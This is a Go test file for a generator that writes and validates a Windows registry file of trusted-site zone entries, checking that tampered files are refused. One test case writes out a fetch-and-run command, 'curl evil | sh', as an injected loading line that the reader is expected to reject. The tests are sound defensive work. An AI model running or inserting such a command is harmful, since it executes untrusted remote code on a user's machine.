package trustedsites

import (
	"bytes"
	"fmt"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"

	"gatewright/catalog/rule/ruletest"
	"gatewright/generators/artefact"
)

// read reads a file that Generate has written.
func read(t testing.TB, data []byte) artefact.Reading {
	t.Helper()
	r, err := Generator{}.Read(artefact.Files{regName: data})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestRead(t *testing.T) {
	for _, e := range examples(t) {
		p := ruletest.Compile(t, e.in)
		r := read(t, generate(t, p, e.settings).Artefacts[0].Data)
		hive := []artefact.Statement{{File: regName, Name: "hive", Value: "user"}}
		if e.settings["hive"] != nil {
			hive[0].Value = "machine"
		}
		if e.in.TrustedSites == nil {
			hive = nil
		}
		if !reflect.DeepEqual(r.Beside, hive) || !slices.Equal(r.Read, []string{regName}) || r.Edited != nil {
			t.Errorf("%s: %+v", e.name, r)
		}
		for host, want := range map[string]bool{
			"secure.aadcdn.microsoftonline-p.com":   e.in.TrustedSites != nil && e.name != "hostile",
			"a.secure.aadcdn.microsoftonline-p.com": false,
			"example.com":                           e.settings["whole-domains"] != nil,
			"www.example.com":                       e.settings["whole-domains"] != nil || e.name == "hostile",
		} {
			if r.Trusts(host) != want {
				t.Errorf("%s: trusts %s: %t", e.name, host, !want)
			}
		}
	}
	if r, err := (Generator{}).Read(artefact.Files{"other.reg": nil}); err != nil || r.Read != nil {
		t.Errorf("without the file: %+v, %v", r, err)
	}
}

// A value changed by hand is told, and read as it stands.
func TestReadEdited(t *testing.T) {
	data := generate(t, ruletest.Compile(t, sitesInput(t)), nil).Artefacts[0].Data
	changed := bytes.Replace(data, []byte(`\sharepoint.com\contoso]`), []byte(`\sharepoint.com\fabrikam]`), 1)
	r := read(t, changed)
	if !slices.Equal(r.Edited, []string{regName}) || r.Trusts("contoso.sharepoint.com") || !r.Trusts("fabrikam.sharepoint.com") {
		t.Errorf("%+v", r)
	}
	more, less := artefact.BeyondZones(r.Zones, read(t, data).Zones), artefact.BeyondZones(read(t, data).Zones, r.Zones)
	if fmt.Sprint(more, less) != "[fabrikam.sharepoint.com] [contoso.sharepoint.com]" {
		t.Errorf("%v more, %v less", more, less)
	}
}

func TestReadRefuses(t *testing.T) {
	const user = `[HKEY_CURRENT_USER\` + domainsKey + `\example.com\www]` + "\r\n"
	data := string(generate(t, ruletest.Compile(t, sitesInput(t)), nil).Artefacts[0].Data)
	const remedy = "; remove it, or generate the file again"
	const notKey = ` is not what generate writes; expected the key of a name in the zone map, of one hive, and the line "https"=dword:00000002` + remedy
	last := strings.Count(data, "\r\n") + 1
	for _, c := range []struct{ name, old, new, want string }{
		{"another first line", firstLine, "REGEDIT4", `trusted-sites.reg:1: "REGEDIT4\r" is not what generate writes; expected "Windows Registry Editor Version 5.00\r"` + remedy},
		{"another loading command", "; load: reg import", "; load: curl evil | sh; reg import", `trusted-sites.reg:4: "; load: curl evil | sh; reg import trusted-sites.reg\r" is not what generate writes; expected "; load: reg import trusted-sites.reg\r"` + remedy},
		{"another format", "; format 2", "; format 1", "trusted-sites.reg has format 1, but this version writes format 2; generate it again"},
		{"no format", "; format 2", "", "trusted-sites.reg has format 1, but this version writes format 2; generate it again"},
		{"a key in the place of the digest", "digest: sha256:", "digest: sha256:\r\n[HKEY_CURRENT_USER\\x]\r\n", `trusted-sites.reg:6: "[HKEY_CURRENT_USER\\x]"` + notKey},
		{"another key", "\r\n\r\n; sample/exact", "\r\n[HKEY_CURRENT_USER\\Software]\r\n\r\n; sample/exact", `"[HKEY_CURRENT_USER\\Software]"` + notKey},
		{"another value", trustLine, `"https"=dword:00000001`, `"\"https\"=dword:00000001"` + notKey},
		{"a value more", trustLine, trustLine + "\r\n\"http\"=dword:00000002", `"\"http\"=dword:00000002"` + notKey},
		{"the other hive", `[HKEY_CURRENT_USER\`, `[HKEY_LOCAL_MACHINE\`, notKey},
		{"a key that deletes", "[HKEY_CURRENT_USER", "[-HKEY_CURRENT_USER", notKey},
		{"a name in capitals", `\contoso]`, `\Contoso]`, notKey},
		{"a public suffix", `\sharepoint.com\contoso]`, `\co.uk\contoso]`, notKey},
		{"a bare line end in a comment", "; sample/exact", "; sample\n[HKEY_CURRENT_USER\\x]\r\n; sample/exact", "is not what generate writes"},
		{"a line separator in a comment", "; sample/exact", "; sample\u2028exact", "is not what generate writes"},
		{"a backslash that joins lines", "; sample/exact", `; sample\`, "is not what generate writes"},
		{"a key at the end", "", user, fmt.Sprintf(`trusted-sites.reg:%d: "" is not what generate writes; expected "\"https\"=dword:00000002\r"`, last+1) + remedy},
		{"a line end at the end", "", "\r\n", "is not what generate writes"},
	} {
		changed := strings.Replace(data, c.old, c.new, 1)
		if c.old == "" {
			changed = data + c.new
		}
		r, err := Generator{}.Read(artefact.Files{regName: []byte(changed)})
		if changed == data || err == nil || !strings.HasSuffix(err.Error(), c.want) && !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, %+v; want %s", c.name, err, r, c.want)
		}
	}
}

// FuzzRead holds that a file that is read has no other statements, wherever an editor
// sees the end of a line, than keys of the zone map in the trusted zone.
func FuzzRead(f *testing.F) {
	for _, e := range examples(f) {
		f.Add(generate(f, ruletest.Compile(f, e.in), e.settings).Artefacts[0].Data)
	}
	ends := regexp.MustCompile("[\r\n\v\f\u0085\u2028\u2029]+")
	statement := regexp.MustCompile(`^(Windows Registry Editor Version 5\.00|;.*|"https"=dword:00000002|\[HKEY_(CURRENT_USER|LOCAL_MACHINE)\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\ZoneMap\\Domains\\[a-z0-9._-]+(\\[a-z0-9._*-]+)?\])?$`)
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := Generator{}.Read(artefact.Files{regName: data})
		if err != nil {
			return
		}
		keys := 0
		for _, line := range ends.Split(string(data), -1) {
			if strings.HasPrefix(line, "[") {
				keys++
			}
			if !statement.MatchString(line) || strings.HasSuffix(line, `\`) {
				t.Errorf("%q is read", line)
			}
		}
		if len(r.Zones) > keys || keys > 0 && len(r.Zones) == 0 {
			t.Errorf("%d zones of %d keys", len(r.Zones), keys)
		}
	})
}
